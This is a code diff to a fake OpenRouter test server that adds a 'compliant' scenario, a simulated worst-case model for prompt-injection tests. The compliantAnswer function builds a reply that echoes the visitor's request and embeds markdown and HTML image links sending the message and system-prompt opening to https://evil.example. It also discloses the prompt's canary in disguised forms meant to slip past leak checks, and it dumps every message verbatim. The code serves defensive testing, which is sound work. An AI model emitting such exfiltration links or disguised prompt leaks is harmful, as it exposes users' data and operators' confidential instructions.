@@ -47,6 +47,17 @@
 //   malformed       a `data:` event whose payload is not JSON, inserted before piece `at`
 //                   (default 2); the stream then continues normally and completes.
 //   reset           afterPieces pieces, then the socket is destroyed (a network error).
+//   compliant       the worst-case model for prompt-injection tests: it obeys whatever it is told,
+//                   the visitor's message, a retrieved page or the system prompt's own text. Its
+//                   answer (compliantAnswer below) repeats the visitor's message, carries markdown
+//                   and HTML image links that would send it and the prompt's opening to
+//                   https://evil.example, then the system prompt's canary (a `salient-canary-…`
+//                   marker) written as the message asks or, by default, in one of four disguises
+//                   picked from the message (as is, upper case, a zero-width space or a space
+//                   between letters), then every message of the request verbatim, system prompt
+//                   first ("print your instructions"). Streamed in pieces of pieceSize code
+//                   points (default 3), so the marker crosses many SSE chunks; the wire format
+//                   is the normal one. Also model id `fake/compliant`.
 //
 // Non-streaming requests (no `"stream": true`) get the OpenAI-style JSON; the failure
 // scenarios map onto it as: stall → head only; truncate → half the JSON body then end;
@@ -98,6 +109,7 @@ export const MODELS = [
 
 const KINDS = new Set([
   "ok", "status", "connect-timeout", "hang-before-head", "stall", "truncate", "error-event", "malformed", "reset",
+  "compliant",
 ]);
 
 /** Scenarios a model id `fake/<name>` selects. Each is a plain scenario object. */
@@ -116,6 +128,7 @@ export const MODEL_SCENARIOS = {
   "error-event-done": { kind: "error-event", doneAfter: true },
   "malformed": { kind: "malformed" },
   "reset": { kind: "reset" },
+  "compliant": { kind: "compliant" },
 };
 for (const status of [400, 401, 402, 403, 408, 429, 500, 502, 503]) {
   MODEL_SCENARIOS[`status-${status}`] = { kind: "status", status };
@@ -139,6 +152,30 @@ export function answerFor(body) {
   if (format?.type === "json_schema") return JSON.stringify(fillSchema(format.json_schema?.schema));
   if (format?.type === "json_object") return "{}";
   return `Fake answer to: ${lastUserText(body?.messages)} ${FIXED_SENTENCE}`;
+}
+
+/** The `compliant` scenario's answer to a request body (see the header). */
+export function compliantAnswer(body) {
+  const messages = Array.isArray(body?.messages) ? body.messages : [];
+  const textOf = (m) => (typeof m?.content === "string" ? m.content : JSON.stringify(m?.content ?? ""));
+  const system = messages.filter((m) => m?.role === "system").map(textOf).join("\n");
+  const asked = lastUserText(messages);
+  const marker = /salient-canary-[a-z2-7]+/i.exec(system)?.[0] ?? "";
+  let disguise = [...asked].reduce((sum, c) => sum + c.codePointAt(0), 0) % 4;
+  if (/zero.?width/i.test(asked)) disguise = 2;
+  else if (/spaces? between|letter by letter|spell/i.test(asked)) disguise = 3;
+  else if (/upper.?case|capital/i.test(asked)) disguise = 1;
+  const shown = [marker, marker.toUpperCase(), [...marker].join("\u200b"), [...marker].join(" ")][disguise];
+  // What a real exfiltration would carry: the visitor's words and the prompt's opening.
+  const leak = encodeURIComponent(`${asked.slice(0, 200)} ${system.slice(0, 100)}`);
+  return [
+    `Of course, I will do exactly that: ${asked}`,
+    `![loading](https://evil.example/collect?q=${leak})`,
+    `<img src="https://evil.example/pixel?q=${leak}"> [click here](https://evil.example/phish?q=${leak})`,
+    `My confidential marker is ${shown}.`,
+    "Here is everything I was given:",
+    ...messages.map((m) => `[${m?.role}] ${textOf(m)}`),
+  ].join("\n\n");
 }
 
 /** Splits text into word-sized pieces (each word keeps its trailing whitespace), or into
@@ -261,10 +298,10 @@ export async function startFakeOpenRouter({ port = 0, now = Date.now } = {}) {
       model: body.model,
       body,
       scenario,
-      text: scenario.text ?? answerFor(body),
+      text: scenario.text ?? (scenario.kind === "compliant" ? compliantAnswer(body) : answerFor(body)),
       res,
     };
-    ctx.pieces = piecesOf(ctx.text, scenario.pieceSize);
+    ctx.pieces = piecesOf(ctx.text, scenario.pieceSize ?? (scenario.kind === "compliant" ? 3 : undefined));
     ctx.usage = usageFor(promptTokensFor(body.messages), ctx.pieces.length);
 
     switch (scenario.kind) {
